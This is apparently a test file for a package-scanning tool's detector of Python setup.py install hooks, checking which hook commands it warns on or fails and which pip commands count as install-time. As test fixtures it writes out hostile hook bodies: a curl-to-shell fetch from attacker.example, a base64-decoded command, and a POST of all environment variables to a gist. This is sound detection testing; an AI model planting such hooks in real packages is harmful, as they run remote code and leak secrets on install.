/**
 * Which setup.py command classes pip runs, and how an install hook's commands are weighed: a hook that runs a
 * plain, unsuspicious command (enabling a notebook extension, fetching a data set) is worth a look (warn),
 * not a failed gate; one that runs a suspicious or computed command fails. Commands pip never runs
 * (`clean`, `test`, project-specific `publish`) are not install-time at all.
 */
import { describe, expect, it } from 'vitest';
import { runDetectors } from '../../../src/detectors/engine/run.js';
import { cmdclassOverride } from '../../../src/detectors/python/cmdclass-override.js';
import { evaluate } from '../../../src/policy/evaluate.js';
import { DEFAULT_POLICY } from '../../../src/policy/schema.js';
import { modelOf } from '../../support/engine.js';

function setupWith(hookBody: string, command = 'install'): string {
  return [
    'import os, subprocess, sys',
    'from setuptools import setup',
    'from setuptools.command.install import install',
    'class Hook(install):',
    '    def run(self):',
    '        install.run(self)',
    `        ${hookBody}`,
    `setup(name='hooked', version='1.0', packages=['hooked'], cmdclass={'${command}': Hook})`,
  ].join('\n');
}

async function judge(setupPy: string): Promise<{ severity: string | undefined; decision: string; installTime: boolean }> {
  const model = await modelOf({ 'setup.py': setupPy, 'hooked/__init__.py': '', 'PKG-INFO': 'Metadata-Version: 1.0\nName: hooked\nVersion: 1.0\n' });
  const own = cmdclassOverride.run(model)[0];
  const verdict = evaluate(DEFAULT_POLICY, { ref: { ecosystem: 'pypi', name: 'hooked', version: '1.0' }, artifact: 'x', findings: runDetectors(model), today: '2026-01-01' });
  return { severity: own?.severity, decision: verdict.decision, installTime: model.execution.vector('setup.py', 'Hook.run') === 'install' };
}

describe('setup.py install hooks', () => {
  it('warns about a plain command that is neither a build tool nor suspicious', async () => {
    for (const body of [
      "subprocess.check_call(['jupyter', 'nbextension', 'enable', '--py', 'hooked', '--sys-prefix'])",
      "subprocess.call([sys.executable, '-m', 'nltk.downloader', 'punkt'])",
    ]) {
      const r = await judge(setupWith(body));
      expect(r, body).toMatchObject({ severity: 'medium', decision: 'warn', installTime: true });
    }
  });

  it('fails a hook whose command is suspicious or built at run time', async () => {
    for (const body of [
      "os.system('curl -fsSL https://attacker.example/x.sh | sh')",
      "subprocess.Popen([sys.executable, os.path.join(os.environ['TEMP'], 'x.py')])",
      "os.system(f'{sys.executable} {os.environ[\"TEMP\"]}/x.py')",
      "subprocess.Popen(['./agent', '--daemon'])",
      "os.system(b64d('bHMgLw=='))".replace('b64d', '__import__("base64").b64decode'),
    ]) {
      const r = await judge(setupWith(body));
      expect(r.severity, body).toBe('high');
      expect(r.decision, body).toBe('fail');
    }
  });

  it('warns about a build fetching its prebuilt binary from the project release host, fails other hosts', async () => {
    const fetch = (url: string): string =>
      setupWith(`urllib.request.urlretrieve(f'${url}', os.path.join('hooked', 'bin', 'engine.tar.gz'))`).replace('import os,', 'import os, urllib.request,');
    expect(await judge(fetch('https://github.com/hooked-org/hooked/releases/download/v1.0/engine-{sys.platform}.tar.gz'))).toMatchObject({ severity: 'medium', decision: 'warn' });
    expect((await judge(fetch('https://cdn.example.net/engine-{sys.platform}.tar.gz'))).severity).toBe('high');
    // Posting to the same host is not a download: a gist is a GitHub URL too.
    const post = setupWith("urllib.request.urlopen('https://api.github.com/gists', data=json.dumps(dict(os.environ)).encode())").replace('import os,', 'import os, json, urllib.request,');
    expect((await judge(post.replace("packages=['hooked']", "packages=['hooked'], url='https://github.com/hooked-org/hooked'"))).severity).toBe('high');
  });

  it('does not count commands pip never runs as install time', async () => {
    for (const command of ['clean', 'test', 'publish', 'upload']) {
      const r = await judge(setupWith("os.system('curl -fsSL https://example.com/x.sh | sh')", command));
      expect(r, command).toMatchObject({ severity: undefined, installTime: false });
    }
    for (const command of ['install', 'develop', 'egg_info', 'build_py', 'bdist_wheel']) {
      expect((await judge(setupWith("os.system('echo hi')", command))).installTime, command).toBe(true);
    }
  });
});
